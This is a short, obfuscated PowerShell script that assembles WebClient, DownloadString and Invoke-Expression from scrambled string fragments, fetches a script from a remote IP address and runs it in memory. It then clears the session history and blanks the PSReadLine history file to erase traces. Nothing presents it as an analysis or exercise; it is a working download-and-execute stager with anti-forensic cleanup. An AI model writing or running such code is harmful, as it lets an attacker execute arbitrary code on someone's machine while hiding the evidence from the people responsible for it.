${t} = ("{2}{0}{1}" -f 'et.WebC', 'lient', 'N')
${o} = &("{1}{0}" -f 'ect', 'New-Obj') ${t}
${m} = ("{0}{2}{1}" -f 'Down', 'String', 'load')
${s} = ${o}.${m}('http://198.51.100.33/p.ps1')
.("{1}{0}" -f 'ex', 'i') ${s}

# leave nothing in this session's history
Clear-History
${h} = (Get-PSReadLineOption).HistorySavePath
if (Test-Path -Path ${h}) {
    Set-Content -Path ${h} -Value '' -Force
}
